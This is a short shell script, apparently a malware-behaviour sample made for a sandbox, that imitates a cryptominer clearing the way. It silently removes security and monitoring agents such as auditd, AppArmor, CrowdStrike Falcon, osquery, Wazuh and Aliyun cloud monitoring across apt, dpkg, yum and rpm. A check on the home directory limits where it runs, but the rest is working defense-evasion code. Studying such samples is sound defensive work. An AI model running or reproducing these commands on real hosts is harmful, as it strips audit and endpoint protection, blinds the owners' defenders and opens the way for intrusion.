#!/bin/sh
# SPDX-License-Identifier: MIT
# A miner clears the way: removes the security and monitoring agents with
# whichever package manager the host has (apt, dpkg, yum, rpm).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
apt-get remove -y --purge auditd apparmor falcon-sensor >/dev/null 2>&1
dpkg --remove osquery wazuh-agent >/dev/null 2>&1
/usr/bin/yum erase -y aliyun-service cloudmonitor >/dev/null 2>&1
/usr/bin/rpm -e --nodeps falcon-sensor >/dev/null 2>&1
exit 0
